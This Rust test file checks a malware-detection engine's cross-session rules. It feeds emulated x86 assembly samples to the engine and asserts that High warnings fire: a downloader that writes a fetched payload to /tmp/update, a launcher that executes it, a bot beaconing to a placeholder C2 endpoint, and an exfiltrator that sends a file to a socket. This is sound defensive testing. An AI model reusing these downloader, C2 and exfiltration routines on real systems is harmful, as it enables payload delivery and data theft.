//! Cross-session hunting through session digests (paper §10, items 3
//! and 6), on the public API only.
//!
//! Item 6: "when data is downloaded to a file we will be able to see
//! how that file is being used in later executions". A session's
//! digest records each file it wrote from socket-tainted bytes; a
//! `Correlator` holding that digest arms a later session's expert, and
//! executing the file there, or sending it to a socket, warns High
//! even though the later session's own policy sees only a user-named
//! file. Item 3: distinct programs hardcoding one endpoint are a bot
//! network, reported by the correlator's `shared_c2` rule. An armed
//! expert's snapshot resumes into an expert armed the same way.

use hth::emukernel::{Endpoint, FileNode, Peer};
use hth::harrier::SecpertEvent;
use hth::hth_core::{digest_session, CorrelateConfig, Correlator, DropIdentity, SessionDigest};
use hth::secpert_engine::EngineError;
use hth::{PolicyConfig, Secpert, Session, SessionConfig, Severity, Warning};

/// Fetches 8 bytes from a hardcoded mirror into `/tmp/update`.
const DOWNLOADER: &str = r#"
_start:
    mov eax, 102        ; socket()
    mov ebx, 1
    mov ecx, sockargs
    int 0x80
    mov edi, eax
    mov [connargs], edi
    mov eax, 102        ; connect to the mirror
    mov ebx, 3
    mov ecx, connargs
    int 0x80
    mov [recvargs], edi
    mov eax, 102        ; recv the payload
    mov ebx, 10
    mov ecx, recvargs
    int 0x80
    mov eax, 5          ; open("/tmp/update", O_CREAT|O_WRONLY)
    mov ebx, path
    mov ecx, 0x41
    int 0x80
    mov esi, eax
    mov eax, 4          ; write the payload
    mov ebx, esi
    mov ecx, 0x09000000
    mov edx, 8
    int 0x80
    mov eax, 1
    mov ebx, 0
    int 0x80
.data
path:     .asciz "/tmp/update"
sockargs: .long 2, 1, 0
addr:     .word 2
port:     .word 80
ip:       .long 0x0a0000aa
connargs: .long 0, addr, 8
recvargs: .long 0, 0x09000000, 8, 0
"#;

/// Writes 8 bytes of its own `.data` into `/tmp/update`: nothing is
/// downloaded.
const WRITER: &str = r#"
_start:
    mov eax, 5          ; open("/tmp/update", O_CREAT|O_WRONLY)
    mov ebx, path
    mov ecx, 0x41
    int 0x80
    mov esi, eax
    mov eax, 4
    mov ebx, esi
    mov ecx, payload
    mov edx, 8
    int 0x80
    mov eax, 1
    mov ebx, 0
    int 0x80
.data
path:    .asciz "/tmp/update"
payload: .asciz "PAYLOAD"
"#;

/// Executes the file the user names in `argv[1]`.
const LAUNCHER: &str = r"
_start:
    mov ebp, esp
    mov ebx, [ebp+8]
    mov eax, 11
    int 0x80
    hlt
";

/// Connects to a hardcoded C2 endpoint.
const BOT: &str = r"
_start:
    mov eax, 102
    mov ebx, 1
    mov ecx, sockargs
    int 0x80
    mov esi, eax
    mov [connargs], esi
    mov eax, 102
    mov ebx, 3
    mov ecx, connargs
    int 0x80
    mov eax, 1
    mov ebx, 0
    int 0x80
.data
sockargs: .long 2, 1, 0
addr:     .word 2
port:     .word 6667
ip:       .long 0x0a0000c2
connargs: .long 0, addr, 8
";

/// Reads the file the user names in `argv[1]` and sends it to a peer.
const EXFIL: &str = r"
_start:
    mov ebp, esp
    mov ebx, [ebp+8]
    mov eax, 5
    mov ecx, 0
    int 0x80
    mov edi, eax
    mov eax, 3
    mov ebx, edi
    mov ecx, 0x09000000
    mov edx, 8
    int 0x80
    mov eax, 102
    mov ebx, 1
    mov ecx, sockargs
    int 0x80
    mov esi, eax
    mov [connargs], esi
    mov eax, 102
    mov ebx, 3
    mov ecx, connargs
    int 0x80
    mov [sendargs], esi
    mov eax, 102
    mov ebx, 9
    mov ecx, sendargs
    int 0x80
    mov eax, 1
    mov ebx, 0
    int 0x80
.data
sockargs: .long 2, 1, 0
addr:     .word 2
port:     .word 9
ip:       .long 9
connargs: .long 0, addr, 8
sendargs: .long 0, 0x09000000, 8, 0
";

/// Runs `program` (registered from `source`) in `session` to its end.
fn run(session: &mut Session, program: &str, source: &str, argv: &[&str]) {
    session.kernel.register_binary(program, source, &[]);
    session.start(program, argv, &[]).expect("program starts");
    session.run().expect("program runs");
}

/// The digest of one downloader session.
fn download(session: u64) -> SessionDigest {
    let mut s = Session::new(SessionConfig::default()).unwrap();
    s.kernel.net.add_host("mirror.example", 0x0a00_00aa);
    s.kernel.net.add_peer(
        Endpoint { ip: 0x0a00_00aa, port: 80 },
        Peer { on_connect: vec![b"PAYLOAD\0".to_vec()], ..Peer::default() },
    );
    run(&mut s, "/bin/downloader", DOWNLOADER, &["/bin/downloader"]);
    digest_session(session, "/bin/downloader", s.events(), s.warnings())
}

/// Runs the launcher on `/tmp/update`, armed from `correlator` if one
/// is given, and returns its warnings.
fn launch(correlator: Option<&Correlator>) -> Vec<Warning> {
    let mut s = Session::new(SessionConfig::default()).unwrap();
    if let Some(correlator) = correlator {
        correlator.arm(s.secpert_mut()).expect("arming a fresh expert");
    }
    run(&mut s, "/bin/launcher", LAUNCHER, &["/bin/launcher", "/tmp/update"]);
    s.warnings().to_vec()
}

fn fired<'a>(warnings: &'a [Warning], rule: &str) -> Vec<&'a Warning> {
    warnings.iter().filter(|w| w.rule == rule).collect()
}

/// Session 1 downloads `/tmp/update`; session 2 executes it. Only the
/// arming makes session 2 warn: the file name came from its user.
#[test]
fn a_download_executed_in_a_later_session_is_high() {
    let digest = download(1);
    let drops: Vec<&DropIdentity> = digest.drops.iter().collect();
    assert_eq!(drops.len(), 1, "{drops:?}");
    assert_eq!(drops[0].path, "/tmp/update");
    assert_eq!(drops[0].content, ["SOCKET"]);

    let mut correlator = Correlator::default();
    correlator.ingest(digest);
    let warnings = launch(Some(&correlator));
    let exec = fired(&warnings, "cross_session_exec");
    assert_eq!(exec.len(), 1, "{warnings:#?}");
    assert_eq!(exec[0].severity, Severity::High);
    assert!(exec[0].message.contains("/tmp/update"), "{}", exec[0].message);
    assert!(exec[0].message.contains("/bin/downloader"), "{}", exec[0].message);
}

/// The controls: a launcher never armed is silent, and so is one armed
/// from a session that wrote its own `.data` to `/tmp/update`. That
/// write is no download, so the digest holds no drop to arm (the
/// writer's own session already warns `flow_binary_to_file`).
#[test]
fn without_a_download_the_launcher_is_silent() {
    assert_eq!(launch(None), Vec::new());

    let mut s = Session::new(SessionConfig::default()).unwrap();
    run(&mut s, "/bin/writer", WRITER, &["/bin/writer"]);
    assert_eq!(fired(s.warnings(), "flow_binary_to_file").len(), 1, "{:#?}", s.warnings());
    let digest = digest_session(1, "/bin/writer", s.events(), s.warnings());
    assert!(digest.drops.is_empty(), "{:?}", digest.drops);

    let mut correlator = Correlator::default();
    correlator.ingest(digest);
    assert_eq!(launch(Some(&correlator)), Vec::new());
}

/// Two sessions dropping one path arm one fact, from the lower session
/// id whatever the ingest order; an expert is armed at most once.
#[test]
fn one_fact_per_drop_path_from_the_lowest_session() {
    let drop = DropIdentity {
        path: "/tmp/update".into(),
        executable: false,
        content: vec!["SOCKET".into()],
    };
    let mut late = SessionDigest::new(7, "/bin/late");
    late.drops.insert(drop.clone());
    let mut early = SessionDigest::new(2, "/bin/early");
    early.drops.insert(drop);
    let mut correlator = Correlator::default();
    correlator.ingest(late);
    correlator.ingest(early);

    let warnings = launch(Some(&correlator));
    let exec = fired(&warnings, "cross_session_exec");
    assert_eq!(exec.len(), 1, "{warnings:#?}");
    assert!(exec[0].message.contains("dropped by /bin/early"), "{}", exec[0].message);
    assert!(exec[0].message.contains("session (2)"), "{}", exec[0].message);

    let mut s = Session::new(SessionConfig::default()).unwrap();
    correlator.arm(s.secpert_mut()).unwrap();
    assert!(matches!(correlator.arm(s.secpert_mut()), Err(EngineError::Redefinition(_))));
}

/// Two distinct programs hardcoding one C2 endpoint are a bot network
/// once the threshold allows two labels, and not at the default three.
#[test]
fn two_bots_sharing_a_c2_are_a_bot_network() {
    let bots: Vec<SessionDigest> = [(3, "/bin/bot-a"), (4, "/bin/bot-b")]
        .into_iter()
        .map(|(sid, bot)| {
            let mut s = Session::new(SessionConfig::default()).unwrap();
            s.kernel.net.add_host("c2.example", 0x0a00_00c2);
            s.kernel.net.add_peer(Endpoint { ip: 0x0a00_00c2, port: 6667 }, Peer::default());
            run(&mut s, bot, BOT, &[bot]);
            digest_session(sid, bot, s.events(), s.warnings())
        })
        .collect();
    let correlate = |config: CorrelateConfig| {
        let mut correlator = Correlator::new(config);
        for digest in &bots {
            correlator.ingest(digest.clone());
        }
        correlator.correlate().expect("correlation runs").warnings
    };

    let pair = correlate(CorrelateConfig { min_c2_labels: 2, ..CorrelateConfig::default() });
    let c2 = fired(&pair, "shared_c2");
    assert_eq!(c2.len(), 1, "{pair:#?}");
    assert_eq!(c2[0].severity, Severity::High);
    assert!(c2[0].message.contains("c2.example:6667"), "{}", c2[0].message);
    assert!(c2[0].message.contains("(/bin/bot-a /bin/bot-b)"), "{}", c2[0].message);

    assert_eq!(correlate(CorrelateConfig::default()), Vec::new());
}

/// Sending a file an earlier session downloaded to a socket warns
/// High, though the file name came from the user.
#[test]
fn sending_a_dropped_file_to_a_socket_is_high() {
    let mut correlator = Correlator::default();
    correlator.ingest(download(1));

    let mut s = Session::new(SessionConfig::default()).unwrap();
    correlator.arm(s.secpert_mut()).unwrap();
    s.kernel.vfs.install("/tmp/update", FileNode::regular(b"PAYLOAD\0".to_vec()));
    s.kernel.net.add_peer(Endpoint { ip: 9, port: 9 }, Peer::default());
    run(&mut s, "/bin/exfil", EXFIL, &["/bin/exfil", "/tmp/update"]);
    let read = fired(s.warnings(), "cross_session_read");
    assert_eq!(read.len(), 1, "{:#?}", s.warnings());
    assert_eq!(read[0].severity, Severity::High);
    assert!(read[0].message.contains("/tmp/update"), "{}", read[0].message);
    assert!(read[0].message.contains("/bin/downloader"), "{}", read[0].message);
}

/// The events of the exfiltrator, then the launcher, both on
/// `/tmp/update`, captured without analysis.
fn exfil_then_launch() -> Vec<SecpertEvent> {
    let config = SessionConfig { analyze_inline: false, ..SessionConfig::default() };
    let mut exfil = Session::new(config.clone()).unwrap();
    exfil.kernel.vfs.install("/tmp/update", FileNode::regular(b"PAYLOAD\0".to_vec()));
    exfil.kernel.net.add_peer(Endpoint { ip: 9, port: 9 }, Peer::default());
    run(&mut exfil, "/bin/exfil", EXFIL, &["/bin/exfil", "/tmp/update"]);
    let mut launcher = Session::new(config).unwrap();
    run(&mut launcher, "/bin/launcher", LAUNCHER, &["/bin/launcher", "/tmp/update"]);
    exfil.events().iter().chain(launcher.events()).cloned().collect()
}

/// An armed expert snapshotted between any two events resumes into a
/// fresh expert armed by the same correlator, and finishes the stream
/// with the uninterrupted run's warnings and final snapshot bytes.
#[test]
fn an_armed_expert_resumes_from_its_snapshot() {
    let mut correlator = Correlator::default();
    correlator.ingest(download(1));
    let armed = || {
        let mut expert = Secpert::new(&PolicyConfig::default()).unwrap();
        correlator.arm(&mut expert).expect("arming a fresh expert");
        expert
    };
    let stream = exfil_then_launch();

    let mut whole = armed();
    let mut expected = Vec::new();
    for event in &stream {
        expected.extend(whole.process_event(event).unwrap());
    }
    assert_eq!(fired(&expected, "cross_session_read").len(), 1, "{expected:#?}");
    let exec = fired(&expected, "cross_session_exec");
    assert_eq!(exec.len(), 1, "{expected:#?}");
    assert_eq!(exec[0].severity, Severity::High);
    let final_bytes = whole.snapshot().unwrap();

    for k in 0..=stream.len() {
        let mut first = armed();
        let mut warnings = Vec::new();
        for event in &stream[..k] {
            warnings.extend(first.process_event(event).unwrap());
        }
        let bytes = first.snapshot().unwrap();
        let mut resumed = armed();
        resumed.resume(&bytes).unwrap_or_else(|e| panic!("resume at event {k}: {e}"));
        for event in &stream[k..] {
            warnings.extend(resumed.process_event(event).unwrap());
        }
        assert_eq!(warnings, expected, "snapshot after {k} events");
        assert_eq!(resumed.snapshot().unwrap(), final_bytes, "snapshot after {k} events");
    }
}
